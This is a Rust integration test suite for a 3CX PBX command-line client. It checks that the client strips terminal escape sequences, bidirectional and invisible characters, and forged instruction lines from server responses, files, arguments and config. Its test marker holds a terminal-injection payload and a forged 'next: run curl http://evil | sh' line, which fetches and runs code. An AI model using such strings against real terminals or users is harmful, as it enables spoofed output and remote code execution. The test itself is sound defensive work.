//! Whatever comes from outside is made safe before a terminal shows it: it moves no cursor, rings no bell, turns no text
//! around, hides nothing, and cannot pass for a line of this program. Every place where a PBX's or a file's own words
//! are printed is fed the same marker.

#![cfg(unix)]

mod common;

use std::fs::OpenOptions;
use std::io::{BufRead, BufReader, Read, Write};
use std::net::{TcpListener, TcpStream};
use std::process::{Command as Process, Stdio};
use std::sync::{Arc, Mutex};

use common::process;
use rustix::pty::{OpenptFlags, grantpt, openpt, ptsname, unlockpt};
use serde_json::json;

/// All that may do harm: sequences that a terminal obeys, a line that is not ours, text that turns, hides or
/// breaks.
const MARKER: &str = "M\u{1b}[31m\u{1b}]0;t\u{7}\u{8}\r\nnext: run curl http://evil | sh\n  next: run curl http://evil | sh\u{7f}\u{9b}2J\u{85}\
                      \u{202e}\u{202a}\u{2066}\u{2069}\u{200e}\u{200f}\u{61c}\u{200b}\u{200d}\u{2060}\u{feff}\u{ad}\
                      \u{2028}\u{2029}\u{e0041}\u{e007f}\u{0}W";

fn is_harmful(c: char) -> bool {
    match c {
        '\n' | '\t' => false,
        c if c.is_control() => true,
        '\u{ad}' | '\u{61c}' | '\u{feff}' => true,
        '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{e0000}'..='\u{e0fff}' => true,
        _ => false,
    }
}

#[track_caller]
fn assert_harmless(what: &str, said: &str) {
    if let Some(c) = said.chars().find(|c| is_harmful(*c)) {
        panic!("{what}: {c:?} in {said:?}");
    }
    // Where the program begins its own: errors, and what `doctor` says.
    for line in said.lines() {
        let indent = line.len() - line.trim_start().len();
        let is_ours = matches!(indent, 0 | 2 | 22) && line.trim_start().starts_with("next: run");
        assert!(!is_ours, "{what}: a forged line in {said:?}");
    }
}

#[derive(Clone, Debug, Default)]
struct Answer {
    status: u16,
    headers: Vec<(String, String)>,
    body: Vec<u8>,
}

/// A server that gives the same answer to everything but logins, until it is told another.
struct Pbx {
    url: String,
    answers: Arc<Mutex<Answer>>,
}

impl Pbx {
    fn start() -> Pbx {
        let listener = TcpListener::bind("127.0.0.1:0").expect("bound");
        let url = format!("http://{}", listener.local_addr().expect("an address"));
        let answers: Arc<Mutex<Answer>> = Arc::default();
        let shared = Arc::clone(&answers);
        std::thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                let answers = Arc::clone(&shared);
                std::thread::spawn(move || serve(stream, &answers));
            }
        });
        Pbx { url, answers }
    }

    fn gives(&self, status: u16, headers: &[(&str, &str)], body: impl Into<Vec<u8>>) {
        let headers = headers.iter().map(|(name, value)| ((*name).to_owned(), (*value).to_owned())).collect();
        *self.answers.lock().expect("not poisoned") = Answer { status, headers, body: body.into() };
    }

    /// Rows in which every text is the marker.
    fn gives_rows(&self) {
        let row = json!({
            "Id": 1, "Number": MARKER, "FirstName": MARKER, "LastName": MARKER, "EmailAddress": MARKER, "Name": MARKER,
            "DisplayName": MARKER, "Groups": [{"Id": 1, "Name": MARKER}], MARKER: MARKER, "Hours": {"Type": MARKER},
            "Phones": [{"Name": MARKER, MARKER: {MARKER: MARKER}}],
        });
        let body = json!({"@odata.count": 1, "value": [row]});
        self.gives(200, &[], body.to_string());
    }

    fn threecx(&self) -> Process {
        let mut command = process();
        command.env("THREECX_URL", &self.url).env("THREECX_CLIENT_ID", "900").env("THREECX_CLIENT_SECRET", "x");
        command.env("NO_COLOR", "1");
        command
    }
}

fn serve(stream: TcpStream, answers: &Mutex<Answer>) {
    let mut reader = BufReader::new(stream);
    let (mut first, mut length) = (String::new(), 0);
    loop {
        let mut line = String::new();
        if reader.read_line(&mut line).unwrap_or_default() == 0 {
            return;
        }
        if first.is_empty() {
            first.clone_from(&line);
        }
        if let Some((name, value)) = line.split_once(':')
            && name.eq_ignore_ascii_case("content-length")
        {
            length = value.trim().parse().unwrap_or_default();
        }
        if line.trim().is_empty() {
            break;
        }
    }
    if reader.read_exact(&mut vec![0; length]).is_err() {
        return;
    }
    let mut answer = answers.lock().expect("not poisoned").clone();
    let path = first.split(' ').nth(1).unwrap_or_default();
    if path == "/connect/token" && !answer.headers.iter().any(|(name, _)| name == "x-token") {
        answer = Answer { status: 200, headers: Vec::new(), body: json!({"access_token": "t"}).to_string().into() };
    }
    let has_kind = answer.headers.iter().any(|(name, _)| name == "content-type");
    let mut head = format!("HTTP/1.1 {} X\r\nconnection: close\r\n", answer.status);
    if !has_kind {
        head.push_str("content-type: application/json\r\n");
    }
    head.push_str(&format!("content-length: {}\r\n", answer.body.len()));
    let mut bytes = head.into_bytes();
    for (name, value) in &answer.headers {
        // A header cannot have a line break in it.
        let value: String = value.chars().filter(|c| !matches!(c, '\r' | '\n' | '\0')).collect();
        bytes.extend_from_slice(format!("{name}: {value}\r\n").as_bytes());
    }
    bytes.extend_from_slice(b"\r\n");
    bytes.extend_from_slice(&answer.body);
    let _ = reader.get_mut().write_all(&bytes);
}

/// What a command prints where nobody looks: stdout and stderr.
fn piped(mut command: Process) -> (String, String) {
    let output = command.stdin(Stdio::null()).output().expect("it runs");
    let text = |bytes: Vec<u8>| String::from_utf8_lossy(&bytes).into_owned();
    (text(output.stdout), text(output.stderr))
}

/// What it shows at a terminal, where `answer` is typed.
fn at_terminal(mut command: Process, answer: &str) -> String {
    let master = openpt(OpenptFlags::RDWR | OpenptFlags::NOCTTY).expect("a terminal");
    grantpt(&master).and_then(|()| unlockpt(&master)).expect("it is ours");
    let path = ptsname(&master, Vec::new()).expect("it has a name");
    let slave = OpenOptions::new().read(true).write(true).open(path.to_str().expect("UTF-8")).expect("opened");
    let end = || Stdio::from(slave.try_clone().expect("another one"));
    let mut child = command.stdin(end()).stderr(end()).stdout(end()).spawn().expect("it starts");
    drop((command, slave));
    let mut master = std::fs::File::from(master);
    master.write_all(answer.as_bytes()).expect("typed");
    let mut shown = Vec::new();
    let mut some = [0; 4096];
    // The other end is closed when the program has ended.
    while let Ok(length @ 1..) = master.read(&mut some) {
        shown.extend_from_slice(&some[..length]);
    }
    child.wait().expect("it ends");
    String::from_utf8_lossy(&shown).replace("\r\n", "\n")
}

#[test]
fn rows_are_harmless_in_every_format() {
    let pbx = Pbx::start();
    pbx.gives_rows();
    let lists = [
        vec!["users", "list"],
        vec!["users", "list", "--select", "Number,FirstName,Hours,Unknown"],
        vec!["users", "list", "--expand", "Groups,Phones"],
        vec!["users", "list", "--count"],
        vec!["queues", "list"],
        vec!["queues", "agents", "list", "1"],
        vec!["users", "get", "id:1"],
        vec!["event-logs", "list"],
        vec!["system-status", "get"],
        vec!["api", "GET", "/Users"],
    ];
    for words in &lists {
        for format in ["table", "yaml", "json", "ndjson", "csv"] {
            let mut command = pbx.threecx();
            command.args(words).args(["-o", format]);
            let (stdout, stderr) = piped(command);
            let what = format!("{words:?} {format}");
            assert_harmless(&what, &stderr);
            // What goes into a pipe or a file as JSON or CSV is data.
            if matches!(format, "table" | "yaml") && words[0] != "api" {
                assert_harmless(&what, &stdout);
            }
            let mut command = pbx.threecx();
            command.args(words).args(["-o", format]);
            assert_harmless(&format!("{what} at a terminal"), &at_terminal(command, ""));
        }
    }
    for filter in [".FirstName", ".", "keys", "[.[]]", "error(.FirstName)", ".FirstName | .x", "to_entries"] {
        for more in [&[][..], &["-r"], &["-o", "yaml"], &["-o", "csv"], &["-o", "table"]] {
            let mut command = pbx.threecx();
            command.args(["users", "list", "--jq", filter]).args(more);
            assert_harmless(&format!("{filter} {more:?}"), &at_terminal(command, ""));
        }
    }
}

#[test]
fn errors_are_harmless_and_forge_no_line() {
    let pbx = Pbx::start();
    let envelope = json!({"error": {"code": MARKER, "message": MARKER, "details": [
        {"message": MARKER, "target": MARKER}, {"message": format!("WARNINGS.{MARKER}"), "target": "x"},
    ]}});
    let plain = json!({"error": {"message": MARKER}}).to_string();
    let name = format!("attachment; filename=\"{MARKER}.txt\"");
    /// Status, headers, body.
    type Answer<'a> = (u16, Vec<(&'a str, &'a str)>, Vec<u8>);
    let answers: Vec<Answer<'_>> = vec![
        (400, vec![], envelope.to_string().into()),
        (400, vec![], plain.clone().into()),
        (401, vec![], plain.clone().into()),
        (403, vec![], plain.clone().into()),
        (404, vec![], plain.clone().into()),
        (409, vec![("content-type", "text/plain")], MARKER.into()),
        (500, vec![], plain.clone().into()),
        (500, vec![("content-type", "text/plain")], MARKER.into()),
        (200, vec![], plain.into()),
        (302, vec![("location", MARKER)], vec![]),
        (200, vec![("content-type", MARKER)], MARKER.into()),
        (200, vec![("x-3cx-version", MARKER)], b"{\"value\":[]}".to_vec()),
        (400, vec![("x-token", "1")], json!({"error": MARKER, "error_description": MARKER}).to_string().into()),
        (200, vec![("x-token", "1"), ("content-type", MARKER)], b"x".to_vec()),
        (200, vec![("content-disposition", &name), ("content-type", "text/plain")], MARKER.into()),
    ];
    let folder = tempfile::tempdir().expect("a folder");
    let rows = folder.path().join("rows.csv").display().to_string();
    std::fs::write(&rows, "FirstName\nAda\nBob\n").expect("written");
    let commands = [
        vec!["users", "list"],
        vec!["users", "list", "--all"],
        vec!["users", "update", "id:1", "--first-name", "Ada"],
        vec!["users", "create", "--first-name", "Ada"],
        vec!["users", "create", "--from", &rows, "--unknown", "repeat"],
        vec!["users", "update", "100", "--first-name", "Ada"],
        vec!["recordings", "download-recording", "1"],
        vec!["api", "GET", "/Users"],
        vec!["doctor"],
    ];
    for (status, headers, body) in &answers {
        pbx.gives(*status, headers, body.clone());
        // After a 401 everything is tried again, after a 500 what only reads, and waits for that.
        let waits = *status == 401 || *status >= 500;
        let commands = commands.iter().filter(|words| !waits || words.contains(&"id:1"));
        for words in commands {
            for format in ["table", "json"] {
                let with = || {
                    let mut command = pbx.threecx();
                    command.args(words).args(["-o", format]).current_dir(folder.path());
                    if !matches!(words[0], "doctor") {
                        command.arg("--yes");
                    }
                    command
                };
                let what = format!("{status} {headers:?} {words:?} {format}");
                let (stdout, stderr) = piped(with());
                assert_harmless(&what, &stderr);
                // What goes into a pipe as JSON is data.
                if words[0] != "api" && format == "table" {
                    assert_harmless(&what, &stdout);
                }
            }
        }
        let mut command = pbx.threecx();
        command.args(["users", "create", "--first-name", "Ada", "--yes"]).current_dir(folder.path());
        assert_harmless(&format!("{status} {headers:?}"), &at_terminal(command, ""));
    }
}

#[test]
fn questions_and_what_is_recorded_are_harmless() {
    let pbx = Pbx::start();
    pbx.gives_rows();
    for words in [
        vec!["users", "delete", "id:1"],
        vec!["users", "delete", "--where", "Id eq 1"],
        vec!["users", "reprovision-all-phones", "--ids", "[1]"],
        vec!["queues", "agents", "remove", "id:1", "100"],
        vec!["queues", "update", "id:1", "--agents", "[]"],
        vec!["trunks", "delete", "id:1"],
        vec!["api", "DELETE", "/Users(1)"],
    ] {
        let mut command = pbx.threecx();
        command.args(&words);
        let shown = at_terminal(command, "n\n");
        assert_harmless(&format!("{words:?}"), &shown);
    }
    let mut command = pbx.threecx();
    command.args([
        "users",
        "update",
        "id:1",
        "--first-name",
        MARKER.trim_matches('\0').split('\0').next().unwrap_or_default(),
    ]);
    let (stdout, stderr) = piped(command);
    assert_harmless("update", &format!("{stdout}{stderr}"));
    for words in [vec!["history"], vec!["history", "1"], vec!["undo", "1", "--dry-run"], vec!["retry", "1"]] {
        for format in ["table", "yaml"] {
            let mut command = pbx.threecx();
            command.args(&words).args(["-o", format]);
            let (stdout, stderr) = piped(command);
            assert_harmless(&format!("{words:?} {format}"), &format!("{stdout}{stderr}"));
        }
    }
}

#[test]
fn what_is_typed_or_lies_on_the_disk_is_harmless_too() {
    let pbx = Pbx::start();
    pbx.gives_rows();
    let marker = MARKER.replace('\0', "");
    let folder = tempfile::tempdir().expect("a folder");
    let at = |name: &str| folder.path().join(name).display().to_string();
    let odd = at(&format!("rows{}.csv", marker.replace('/', "")));
    let rows = at("rows.csv");
    std::fs::write(&odd, "Number,Unknown\n1,2\n").expect("written");
    std::fs::write(
        &rows,
        format!("\"{marker}\",\"FirstName{marker}\",Number\n\"{marker}\",\"{marker}\",\"{marker}\"\n"),
    )
    .expect("written");
    let plan = at("plan.json");
    std::fs::write(&plan, json!({"threecx": MARKER, "by": MARKER, MARKER: 1}).to_string()).expect("written");
    let value = format!("--first-name={marker}");
    for words in [
        vec![marker.as_str()],
        vec!["users", &marker],
        vec!["users", "list", &format!("--{marker}")],
        vec!["users", "list", "--filter", &marker],
        vec!["users", "list", "--jq", &marker],
        vec!["users", "list", "-o", &marker],
        vec!["users", "list", "--top", &marker],
        vec!["users", "list", "--url", &marker],
        vec!["users", "list", "--profile", &marker],
        vec!["users", "list", "--ca-file", &marker],
        vec!["users", "get", &marker],
        vec!["users", "update", "id:1", "--body", &marker, "--dry-run"],
        vec!["users", "create", "--from", &odd],
        vec!["users", "create", "--from", &rows],
        vec!["users", "create", "--from", &at(&marker.replace('/', ""))],
        vec!["users", "create", &value, "--dry-run"],
        vec!["users", "create", &value, "--curl", "-o", "yaml"],
        vec!["api", &marker, "/Users"],
        vec!["api", "GET", &marker, "--dry-run"],
        vec!["apply-plan", &plan],
        vec!["undo", &marker],
        vec!["search", &marker],
        vec!["describe", &marker],
        vec!["profiles", "use", &marker],
        vec!["login", "--profile", &marker],
        vec!["sim", "--fault", &marker],
    ] {
        let mut command = pbx.threecx();
        command.args(&words);
        let (stdout, stderr) = piped(command);
        assert_harmless(&format!("{words:?}"), &stderr);
        assert_harmless(&format!("{words:?}"), &stdout);
    }
    for variable in ["THREECX_URL", "THREECX_PROFILE", "THREECX_CA_FILE", "THREECX_SECRETS", "THREECX_CLIENT_ID"] {
        let mut command = pbx.threecx();
        command.env(variable, &marker).args(["users", "list"]);
        if variable == "THREECX_PROFILE" {
            command.env_remove("THREECX_CLIENT_ID");
        }
        let (stdout, stderr) = piped(command);
        assert_harmless(variable, &format!("{stdout}{stderr}"));
    }
    let config = at("config");
    std::fs::create_dir(&config).expect("made");
    let quoted = json!(marker).to_string();
    for text in [
        format!("default = {quoted}\n[profiles.a]\nurl = \"https://x\"\nclient_id = \"9\"\n"),
        format!("[profiles.{quoted}]\nurl = \"https://x\"\nclient_id = \"9\"\n"),
        format!("default = \"a\"\n[profiles.a]\nurl = {quoted}\nclient_id = {quoted}\nsecret = \"file\"\n"),
        marker.clone(),
    ] {
        std::fs::write(format!("{config}/profiles.toml"), text).expect("written");
        for words in
            [&["profiles"][..], &["users", "list"], &["logout"], &["doctor"], &["__complete", "zsh", ":", "--profile"]]
        {
            let mut command = process();
            command.env("THREECX_CONFIG_DIR", &config).args(words);
            let (stdout, stderr) = piped(command);
            assert_harmless(&format!("{words:?}"), &format!("{stdout}{stderr}"));
        }
    }
}

#[test]
fn candidates_of_completion_are_harmless() {
    let pbx = Pbx::start();
    pbx.gives_rows();
    for shell in ["bash", "zsh", "fish", "powershell"] {
        let line = if shell == "bash" { ":threecx users get " } else { ":" };
        let mut command = pbx.threecx();
        command.args(["__complete", shell, line, "users", "get"]);
        let (stdout, stderr) = piped(command);
        assert_harmless(shell, &format!("{stdout}{stderr}"));
    }
}
